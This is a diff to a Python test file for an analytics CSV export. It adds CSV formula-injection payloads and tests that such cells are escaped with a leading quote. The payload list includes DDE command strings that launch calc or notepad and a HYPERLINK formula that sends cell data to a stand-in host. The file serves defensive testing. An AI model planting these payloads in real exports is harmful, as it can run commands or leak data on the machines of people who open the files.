@@ -9,7 +9,10 @@ from pathlib import Path
 import duckdb
 import orjson
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
+from smart_support.analytics import export as export_module
 from smart_support.analytics.export import Format, exported
 from smart_support.analytics.filters import Filters
 from smart_support.analytics.span import span
@@ -87,3 +90,75 @@ async def test_filters_apply_to_an_export_too(event_log: EventLog) -> None:
     with file:
         rows = list(csv.DictReader(io.StringIO(file.read().decode())))
     assert [row["thread_id"] for row in rows] == ["mine", "mine"]
+
+
+# Beside those of our own: the payloads that OWASP's page and public scanners list.
+FORMULAS = [
+    *(
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "  =1+1",
+        "\u00a0=1+1",
+        "\ufeff=1+1",
+    ),
+    *(
+        "'=1+1",
+        '"=1+1',
+        '" =1+1',
+        "＝1+1",
+        "＋1",
+        "－1+1",
+        "＠SUM(A1)",
+        "\ttext",
+        "\rtext",
+        "\x0b=1",
+        "\x1f=1",
+    ),
+    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test?leak="&A1,"Error")', '=IMPORTXML(CONCAT("http://x"))'),
+    *(
+        "+cmd|'/c calc'!A1",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C notepad'!A0",
+        "--5",
+        "+49 30 1",
+        "-",
+    ),
+]
+HARMLESS = ["-5", "+5", "-5.25", "-1e9", "1-1", "a=b", "mail@example.com", " text", "'quoted'", "{}", "%0A=1"]
+
+
+@pytest.mark.parametrize("column", ["customer_id", "agent"])
+async def test_no_cell_of_a_csv_is_a_formula(event_log: EventLog, column: str) -> None:
+    """Every text column is treated alike; these two are among those that come from outside."""
+    texts = [*FORMULAS, *HARMLESS]
+    for number, text in enumerate(texts):
+        if column == "customer_id":
+            await record(event_log, Story(f"-t{number}", NOON, customer_id=text).ask())
+        else:
+            await record(event_log, Story(f"-t{number}", NOON).answer("yes", agent=text, tokens=1))
+    told = (await _export(event_log, "csv")).decode()
+    rows = {row["thread_id"]: row for row in csv.DictReader(io.StringIO(told, newline=""))}
+    cells = [rows[f"'-t{number}"][column] for number in range(len(texts))]
+    assert cells == [*(f"'{text}" for text in FORMULAS), *HARMLESS]
+    assert {row["seq"] for row in rows.values()} == {"1"}
+
+
+_CHARACTERS = st.sampled_from("=+-@＝\t\r\n \"'1.e\u00a0\ufeffa") | st.characters(codec="utf-8")
+
+
+@given(text=st.text(_CHARACTERS, max_size=12))
+def test_a_text_is_changed_only_where_a_spreadsheet_would_run_it(text: str) -> None:
+    sql = f"SELECT {export_module._PLAIN.format(name='x')} FROM (SELECT $x::VARCHAR AS x)"
+    params = {"x": text, "formula": export_module._FORMULA, "number": export_module._NUMBER}
+    (told,) = duckdb.execute(sql, params).fetchone() or ()
+    assert told in (text, f"'{text}")
+    first = text.strip().strip("\"' \t\r\n\ufeff\u00a0")[:1]
+    if text[:1] in ("\t", "\r", "\n") or (first and first in "=@＝"):
+        assert told == f"'{text}"
+    if not any(one in text for one in "=+-@＝＋－＠\t\r\n"):
+        assert told == text
